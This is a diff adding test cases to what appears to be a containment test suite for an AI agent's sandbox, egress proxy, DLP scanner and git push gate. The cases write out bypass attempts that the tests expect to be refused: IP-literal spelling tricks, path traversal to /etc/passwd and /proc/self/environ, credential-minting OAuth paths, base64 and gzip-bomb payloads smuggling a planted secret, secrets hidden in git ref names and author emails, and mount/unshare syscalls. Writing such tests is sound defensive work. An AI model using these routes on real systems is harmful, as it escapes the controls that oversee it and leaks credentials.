@@ -375,12 +375,32 @@ def r2_unknown_name(m):
 
 # --- row 3: no IP literals, no smuggling ---------------------------------
 
+def block_reason(head):
+    """The proxy's own refusal: 403 and the reason it names, else None."""
+    m = re.search(rb"\r\nx-claude-bottle-block: *([a-z-]+)", (head or b"").lower())
+    return m.group(1).decode() if status(head) == 403 and m else None
+
+
+def ip_spellings(ip):
+    """The world's address as an IP literal in the spellings URL parsers
+    and resolvers disagree on: dotted, one decimal number, hex, octal,
+    IPv4-mapped IPv6."""
+    a, b, c, d = (int(x) for x in ip.split("."))
+    n = (a << 24) | (b << 16) | (c << 8) | d
+    return [ip, str(n), hex(n), f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"[::ffff:{ip}]"]
+
+
 @case(3)
 def r3_connect_ip(m):
-    s, st, head = tunnel(WORLD, 443)
-    if s:
-        s.close()
-    return st != 200, f"{st} {head[:200]!r}"
+    # Refused as an address, not only as a name without a route: a
+    # default-deny table would refuse them all as `no-route` anyway.
+    seen = []
+    for host in ip_spellings(WORLD):
+        s, st, head = tunnel(host, 443)
+        if s:
+            s.close()
+        seen.append((host, block_reason(head)))
+    return all(r in ("ip-literal", "malformed") for _, r in seen), seen
 
 
 @case(3)
@@ -462,11 +482,13 @@ def c3_wildcard_subdomain(m):
 
 
 @case(3)
-def r3_connect_port_22(m):
-    s, st, head = tunnel("allowed.test", 22)
+def r3_connect_other_port(m):
+    # The world answers DNS over TCP on 53: a missing port rule would
+    # connect, so only the `port` refusal holds.
+    s, st, head = tunnel("allowed.test", 53)
     if s:
         s.close()
-    return st != 200, f"{st}"
+    return block_reason(head) == "port", f"{st} {head[:200]!r}"
 
 
 @case(3)
@@ -655,6 +677,14 @@ def r5_everything_readable(m):
     for k, v in blobs.items():
         if contains_token(v, fps):
             hits.append(k)
+    # Control: the known secret, planted in a file, is found by the same
+    # search through its own fingerprint.
+    planted = "/tmp/esc-planted-secret"
+    with open(planted, "w") as f:
+        f.write(f"x {SECRET} y\n")
+    control_fp = [{"prefix": SECRET[:8], "len": len(SECRET),
+                   "sha256": hashlib.sha256(SECRET.encode()).hexdigest()}]
+    control_found = []
     for root, dirs, names in os.walk("/"):
         if root == "/":
             dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
@@ -670,13 +700,77 @@ def r5_everything_readable(m):
             files += 1
             if contains_token(data, fps):
                 hits.append(p)
-    return not hits, {"files_read": files, "found_in": hits}
+            if contains_token(data, control_fp):
+                control_found.append(p)
+    os.remove(planted)
+    return (not hits and planted in control_found,
+            {"files_read": files, "found_in": hits, "control_found": planted in control_found})
+
+
+@case(5)
+def r5_what_the_sidecar_serves(m):
+    # Everything the sidecar answers the agent with: the gate's files and
+    # refs, the CA, the health endpoint; no token, and no private key.
+    fps = CFG["token_fingerprints"]
+    side = sidecar_ip()
+    got = {}
+    for url in (f"http://{side}:8418/app.git/config", f"http://{side}:8418/app.git/FETCH_HEAD",
+                f"http://{side}:8418/app.git/packed-refs", f"http://{side}:8418/app.git/HEAD",
+                f"http://{side}:8418/app.git/info/refs?service=git-upload-pack",
+                f"http://{side}:8418/app.git/../../etc/passwd",
+                f"http://{side}:8418/app.git/%2e%2e/%2e%2e/proc/self/environ",
+                "http://claude-bottle.local/ca.pem", "http://claude-bottle.local/health"):
+        direct = ("--noproxy", "*") if side in url else ()
+        rc, out = curl("--path-as-is", *direct, url)
+        got[url] = out.encode("utf-8", "surrogateescape")
+    rc, out = git("ls-remote origin")
+    got["ls-remote"] = out.encode()
+    hits = [u for u, v in got.items() if contains_token(v, fps)]
+    keys = [u for u, v in got.items() if b"PRIVATE KEY" in v]
+    ca = got["http://claude-bottle.local/ca.pem"]
+    return (not hits and not keys and b"BEGIN CERTIFICATE" in ca,
+            {"tokens_in": hits, "private_key_in": keys, "sizes": {u: len(v) for u, v in got.items()}})
 
 
 @case(5)
 def r5_placeholder_only(m):
     v = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN") or os.environ.get("ANTHROPIC_API_KEY") or ""
     return v == "cred-proxy-placeholder", v[:24]
+
+
+@case(5, ok_host="api.token.test")
+def r5_injected_token_echoed(m):
+    # The world at the token's host sends the request's fields back; a
+    # range and compression are asked for, to cut or hide the echo. The
+    # token the proxy injected comes back as stars of its length.
+    rc, out = curl("-i", "-H", "x-echo: 1", "-H", "range: bytes=0-9,10-19",
+                   "-H", "accept-encoding: gzip", "-H", "authorization: Bearer placeholder",
+                   f"https://api.token.test/{m}")
+    stars = "Bearer " + "*" * len(SECRET)
+    return SECRET not in out and f"authorization: {stars}" in out, out[:400]
+
+
+@case(5, ok_host="api.anthropic.com")
+def r5_model_key_echoed(m):
+    resp, err = proxy_raw(f"POST /anthropic/v1/messages?{m} HTTP/1.1\r\nHost: sidecar:3128\r\n"
+                          f"x-echo: 1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{{}}".encode())
+    return (status(resp) == 200 and not contains_token(resp, CFG["token_fingerprints"])
+            and b"Bearer ****" in resp, f"{resp[:300]!r} {err}")
+
+
+@case(5)
+def r5_mint_a_credential(m):
+    # The model API's OAuth token can ask for a new API key, which would
+    # come back in the answer: only model calls pass the reverse proxy.
+    reasons = []
+    for path in ("/anthropic/api/oauth/claude_cli/create_api_key",
+                 "/anthropic/v1/messages/../../api/oauth/claude_cli/create_api_key",
+                 "/anthropic/v1/messages/%2e%2e/%2e%2e/api/oauth/claude_cli/create_api_key",
+                 "/openai/v1/realtime/client_secrets"):
+        resp, err = proxy_raw(f"POST {path}?{m} HTTP/1.1\r\nHost: sidecar:3128\r\n"
+                              f"Content-Length: 2\r\nConnection: close\r\n\r\n{{}}".encode())
+        reasons.append(block_reason(resp) or f"{status(resp)} {err}")
+    return reasons[:3] == ["path"] * 3 and reasons[3] in ("path", "no-route"), reasons
 
 
 # --- row 6: DLP on every channel to allowed hosts ------------------------
@@ -744,6 +838,43 @@ def r6_gzip_body(m):
     with open(path, "wb") as f:
         f.write(gzip.compress(json.dumps({"note": "hi", "k": SECRET}).encode()))
     return blocked_post(m, "@" + path, "application/json", extra=("content-encoding: gzip",))
+
+
+# Past the engine's bounds: the bytes DLP holds of a run it is reading
+# (1 MiB), the compressed bytes held until the whole content is clean
+# (4 MiB) and what a compressed body may inflate to (64 MiB). A scan that
+# gave up at a bound and let the rest through (fail open) would forward
+# each whole; the world would log a complete body.
+
+def post_file(m, data, extra=()):
+    path = f"/tmp/{m}.body"
+    with open(path, "wb") as f:
+        f.write(data)
+    return blocked_post(m, "@" + path, extra=extra)
+
+
+@case(6, ok_host="truncated", secret=base64.b64encode(SECRET.encode()).decode())
+def r6_base64_run_past_the_held_bound(m):
+    # 1.5 MiB of clean bytes (a multiple of 3, so the secret's own base64
+    # is in the text) then the secret: one base64 run of 2 MiB.
+    clean = bytes((i * 7919) % 251 for i in range(3 * 512 * 1024))
+    return post_file(m, base64.b64encode(clean + SECRET.encode()))
+
+
+@case(6, ok_host="truncated")
+def r6_gzip_past_the_held_bound(m):
+    import gzip
+    return post_file(m, gzip.compress(os.urandom(5 << 20) + SECRET.encode(), 1),
+                     extra=("content-encoding: gzip",))
+
+
+@case(6, ok_host="truncated")
+def r6_gzip_bomb(m):
+    import zlib
+    z = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = bytes(1 << 20)
+    data = b"".join(z.compress(zeros) for _ in range(128)) + z.compress(SECRET.encode()) + z.flush()
+    return post_file(m, data, extra=("content-encoding: gzip",))
 
 
 def ws_open(m):
@@ -948,6 +1079,38 @@ def r7_post_to_get_only(m):
 
 
 @case(7)
+def r7_plain_http(m):
+    # The same rules on the plain-HTTP forward path.
+    post, e1 = proxy_raw(f"POST http://ro.test/public/{m}-post HTTP/1.1\r\nHost: ro.test\r\n"
+                         f"Content-Length: 1\r\nConnection: close\r\n\r\nx".encode())
+    outside, e2 = proxy_raw(f"GET http://ro.test/private/{m} HTTP/1.1\r\nHost: ro.test\r\n"
+                            f"Connection: close\r\n\r\n".encode())
+    return (block_reason(post) == "method" and block_reason(outside) == "path",
+            f"{post[:120]!r} {outside[:120]!r} {e1} {e2}")
+
+
+@case(7)
+def r7_second_request_in_a_tunnel(m):
+    # Every request on a kept-alive intercepted tunnel is checked, not only
+    # the first (which is allowed, and carries no marker).
+    s, st, head = tunnel("ro.test", 443)
+    if s is None:
+        return False, f"CONNECT {st} {head[:120]!r}"
+    t = tls(s, "ro.test")
+    with t:
+        t.sendall(b"GET /public/esc-keepalive HTTP/1.1\r\nHost: ro.test\r\n\r\n")
+        first = read_all(t)
+        try:
+            t.sendall(f"POST /private/{m} HTTP/1.1\r\nHost: ro.test\r\nContent-Length: 1\r\n"
+                      f"Connection: close\r\n\r\nx".encode())
+            second = read_all(t)
+        except OSError as e:
+            second = f"closed: {e}".encode()
+    return (status(first) == 200 and block_reason(second) in ("method", "path"),
+            f"first {status(first)}, second {second[:160]!r}")
+
+
+@case(7)
 def r7_path_outside(m):
     return not_200(f"https://ro.test/private/{m}")
 
@@ -1035,6 +1198,47 @@ def r8_pattern_key(m):
     git("checkout -q -B leak4 origin/main")
     commit("ci", {"ci.yml": "env:\n  GH: ghp_" + "Zq8" * 12 + "\n"})
     return push_refused(f"HEAD:refs/heads/agent/{m}")
+
+
+@case(8)
+def r8_secret_in_ref_name(m):
+    git("checkout -q -B leak6 origin/main")
+    commit(f"clean {m}", {"r.txt": "r\n"})
+    return push_refused(f"HEAD:refs/heads/agent/{m}-{SECRET}")
+
+
+@case(8)
+def r8_secret_in_author_email(m):
+    git("checkout -q -B leak7 origin/main")
+    with open(os.path.join(REPO, "e.txt"), "w") as f:
+        f.write("e\n")
+    rc, out = git(f"add -A && git commit -qm 'work {m}'",
+                  env={"GIT_AUTHOR_EMAIL": f"{SECRET}@example.com",
+                       "GIT_COMMITTER_NAME": f"x {SECRET}"})
+    if rc != 0:
+        raise RuntimeError(out)
+    return push_refused(f"HEAD:refs/heads/agent/{m}")
+
+
+@case(8)
+def r8_one_clean_ref_one_dirty(m):
+    # The whole push is refused: the clean branch does not land either.
+    git("checkout -q -B clean2 origin/main")
+    commit(f"clean {m}", {"c2.txt": "c\n"})
+    git("checkout -q -B leak8 origin/main")
+    commit("add config", {"config.py": f"TOKEN = '{SECRET}'\n"})
+    return push_refused(f"clean2:refs/heads/agent/{m}-clean leak8:refs/heads/agent/{m}-dirty")
+
+
+@case(8)
+def r8_refused_then_pushed_again(m):
+    # Refused once (a branch outside `push`); the gate must not have kept
+    # the commit as known, so the second push is scanned as new.
+    git("checkout -q -B leak9 origin/main")
+    commit(f"add config {m}", {"config.py": f"KEY = '{SECRET}'\n"})
+    first, out1 = push_refused(f"HEAD:refs/heads/feature-{m}")
+    second, out2 = push_refused(f"HEAD:refs/heads/agent/{m}")
+    return first and second and "known-secret" in out2, f"{out1[-150:]} / {out2[-250:]}"
 
 
 @case(8)
@@ -1196,15 +1400,33 @@ def r10_limits(m):
     return ok, f"pids.max {pids}, memory limit {mem}"
 
 
+SYSCALLS = r"""
+import ctypes, json
+libc = ctypes.CDLL(None, use_errno=True)
+def errno_of(r):
+    return 0 if r == 0 else ctypes.get_errno()
+out = {
+    "mount": errno_of(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
+    "unshare-mount": errno_of(libc.unshare(0x00020000)),
+    "unshare-user": errno_of(libc.unshare(0x10000000)),
+}
+print(json.dumps(out))
+"""
+
+
 @case(10)
 def r10_no_mount_or_namespaces(m):
-    rc1, o1 = sh("mount -t tmpfs none /tmp 2>&1")
-    rc2, o2 = sh("unshare -Ur true 2>&1")
+    # The system calls themselves, in a child (one that succeeded would
+    # change the process): a missing `mount` or `unshare` program is no
+    # defence, and each answer is an errno, not an exit code.
+    rc, out = sh(f"python3 -c '{SYSCALLS}'")
+    errs = json.loads(out.strip().splitlines()[-1])
     rc3, o3 = sh("echo 1 > /proc/sys/kernel/sysrq 2>&1")
     # Under gVisor a user namespace is gVisor's own (its kernel runs in the
     # sandbox, not the host's), so making one reaches nothing of the host.
-    held = rc1 != 0 and rc3 != 0 and (rc2 != 0 or GVISOR)
-    return held, f"mount {rc1} unshare {rc2} sysctl {rc3}{' (gVisor)' if GVISOR else ''}"
+    held = (errs["mount"] != 0 and errs["unshare-mount"] != 0
+            and (errs["unshare-user"] != 0 or GVISOR) and rc3 != 0)
+    return held, f"errno {errs} sysctl {rc3}{' (gVisor)' if GVISOR else ''}"
 
 
 # --- beyond the table ----------------------------------------------------
